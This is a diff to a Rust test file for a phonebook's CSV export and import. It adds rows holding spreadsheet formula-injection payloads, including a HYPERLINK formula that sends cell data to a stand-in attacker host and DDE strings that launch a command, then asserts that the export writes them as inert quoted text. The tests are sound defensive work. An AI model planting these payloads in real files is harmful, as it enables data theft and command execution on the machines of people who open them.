@@ -542,7 +542,7 @@ async fn assets_are_linked_to_their_owners(db: TestDbRef) {
     );
     assert!(String::from_utf8(out)
         .unwrap()
-        .contains("a-8,Desk phone,,,,,,\n"));
+        .contains("\"a-8\",\"Desk phone\",\"\",\"\",\"\",\"\",\"\",\"\"\n"));
 }
 
 /// Every record with its ids replaced by what the export writes for them.
@@ -610,14 +610,16 @@ async fn export_then_import_gives_the_same_records(db: TestDbRef) {
         "RU",
         "external_id,name,phones,emails,fax_mailboxes,vip,priority,notes\n\
          org-1,ООО «Ромашка»,8 495 123-00-00; range:8 495 123; fax:8 495 123-00-99,info@romashka.example,fax@romashka.example; fax2@romashka.example,yes,5,\"Key account, \"\"gold\"\"\"\n\
-         ,Без кода,8 343 000-00-00,,,no,0,\n",
+         ,Без кода,8 343 000-00-00,,,no,0,\n\
+         org-3,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",,,,no,0,@SUM(1+1)*cmd|' /C calc'!A0\n",
         Format::Csv,
     )
     .await;
     let contacts = format!(
         "{HEADER}c-1,Иван,Петров,Vanya; Ivan Petrov,,org-1,mobile:8 916 123-45-67; home:8 495 111-22-33; work:+78121234567,ivan@romashka.example,yes,-1,ru,\"multi\nline, with comma\"\n\
          c-2,James,Bond,,Без кода,,sip:+442079460018@sbc.example;user=phone,,no,0,en-GB,\n\
-         ,Nameless,Keyless,,,,other:+1 212 555 0142,,,,,\n"
+         ,Nameless,Keyless,,,,other:+1 212 555 0142,,,,,\n\
+         c-3,-1+1,''=quoted already,,,,+7 916 000-00-01,,no,-2,,+cmd|' /C calc'!A0\n"
     );
     import_text(&store, "RU", &contacts, Format::Csv).await;
     import_text(
@@ -632,8 +634,27 @@ async fn export_then_import_gives_the_same_records(db: TestDbRef) {
     )
     .await;
     let before = snapshot(&store).await;
-    assert_eq!(before.len(), 2 + 3 + 4);
+    assert_eq!(before.len(), 3 + 4 + 4);
     let exported = export_all(&store).await;
+    // Cells a spreadsheet would run are written as text; numbers are left as they are.
+    let (organizations, contacts) = (&exported[0].1, &exported[1].1);
+    for guarded in [
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1",
+        "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
+    ] {
+        assert!(
+            organizations.contains(guarded),
+            "{guarded} in {organizations}"
+        );
+    }
+    for guarded in [
+        "\"'-1+1\"",
+        "\"''=quoted already\"",
+        "\"'+cmd|' /C calc'!A0\"",
+        "\"-2\"",
+    ] {
+        assert!(contacts.contains(guarded), "{guarded} in {contacts}");
+    }
 
     // Empty the book, then read it back from the export.
     for asset in all::<Asset>(&store).await {
@@ -749,18 +770,44 @@ fn the_command_line_lists_failed_rows_and_exits_1() {
     let output = run(&["phonebook", "export", "--kind", "contacts"]);
     assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
     let csv = text(&output.stdout);
+    // Every field quoted (see `switchdesk::spreadsheet`).
+    let row = |fields: &[&str]| format!("\"{}\"", fields.join("\",\""));
     assert!(
-        csv.starts_with("external_id,first_name,last_name,aliases,"),
+        csv.starts_with(&row(&["external_id", "first_name", "last_name", "aliases"])),
         "{csv}"
     );
-    assert!(
-        csv.contains("c-1,Иван,Петров,,,,work:+79161234567,,yes,0,,"),
-        "{csv}"
-    );
-    assert!(
-        csv.contains("c-3,Anna,Smirnova,,,,mobile:+79167654321,,no,0,,"),
-        "{csv}"
-    );
+    for contact in [
+        [
+            "c-1",
+            "Иван",
+            "Петров",
+            "",
+            "",
+            "",
+            "work:+79161234567",
+            "",
+            "yes",
+            "0",
+            "",
+            "",
+        ],
+        [
+            "c-3",
+            "Anna",
+            "Smirnova",
+            "",
+            "",
+            "",
+            "mobile:+79167654321",
+            "",
+            "no",
+            "0",
+            "",
+            "",
+        ],
+    ] {
+        assert!(csv.contains(&row(&contact)), "{csv}");
+    }
 
     // Agents' search from the command line: transliterated, and by a fragment of a number.
     let output = run(&["phonebook", "search", "ivan petrov"]);
